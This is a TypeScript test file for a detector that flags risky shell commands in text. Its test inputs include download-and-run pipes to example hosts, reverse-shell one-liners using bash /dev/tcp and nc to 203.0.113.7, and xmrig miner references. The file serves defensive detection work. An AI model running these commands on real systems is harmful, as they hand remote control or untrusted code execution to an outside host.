import { expect, test } from 'vitest';
import {
  downloadsAndRuns,
  installsPackages,
  minesCoins,
  opensDebugger,
  opensReverseShell,
  runsSshServer,
  skipsTlsVerification,
} from './shell.ts';

test.each([
  ['curl -sfL https://get.example.com | sh -', true],
  ['wget -qO- https://x.example.com/i.sh | sudo bash', true],
  ['bash <(curl -s https://x.example.com)', true],
  ['sh -c "$(curl -fsSL https://x.example.com)"', true],
  ['curl https://x.example.com/data.json | jq .', false],
  ['curl -o /tmp/x https://x.example.com; sh /app/run.sh', false],
])('%j downloads and runs: %j', (text, found) => {
  expect(downloadsAndRuns(text)).toBe(found);
});

test.each([
  ['apt-get update && apt-get install -y curl', true],
  ['apk --no-cache add bash', true],
  ['pip install flask', true],
  ['echo install the package', false],
])('%j installs packages: %j', (text, found) => {
  expect(installsPackages(text)).toBe(found);
});

test.each([
  ['bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', true],
  ['nc 203.0.113.7 4444 -e /bin/sh', true],
  ['nc -z db 5432', false],
])('%j opens a reverse shell: %j', (text, found) => {
  expect(opensReverseShell(text)).toBe(found);
});

test.each([
  ['/tmp/xmrig --donate-level 1', true],
  ['docker.io/kannix/xmrig:latest', true],
  ['run -o stratum+tcp://pool.example.com:3333', true],
  ['/app/cookiminerdb', false],
  ['/app/stratum-server', false],
])('%j mines coins: %j', (text, found) => {
  expect(minesCoins(text)).toBe(found);
});

test.each([
  ['java -agentlib:jdwp=transport=dt_socket,server=y,suspend=n,address=*:5005 -jar a.jar', true],
  ['java -agentlib:jdwp=transport=dt_socket,server=y,suspend=n,address=5005 -jar a.jar', false],
  ['node --inspect=0.0.0.0:9229 app.js', true],
  ['node --inspect app.js', false],
  ['dlv exec /app --headless --listen=:2345', true],
])('%j opens a debugger: %j', (text, found) => {
  expect(opensDebugger(text)).toBe(found);
});

test.each([
  ['kubectl --insecure-skip-tls-verify get pods', true],
  ['kubectl --insecure-skip-tls-verify=false get pods', false],
  ['curl -sk https://api.example.com', true],
  ['curl -s https://api.example.com/k', false],
])('%j skips TLS verification: %j', (text, found) => {
  expect(skipsTlsVerification(text)).toBe(found);
});

test('sshd is known by its name, not by a part of another', () => {
  expect(runsSshServer('/usr/sbin/sshd -D')).toBe(true);
  expect(runsSshServer('/app/notsshd')).toBe(false);
});

test('a megabyte of near misses is searched in bounded work', () => {
  const text = 'curl '.repeat(200_000);
  expect([
    downloadsAndRuns(text),
    installsPackages(text),
    opensReverseShell(text),
    skipsTlsVerification(text),
  ]).toEqual([false, false, false, false]);
});
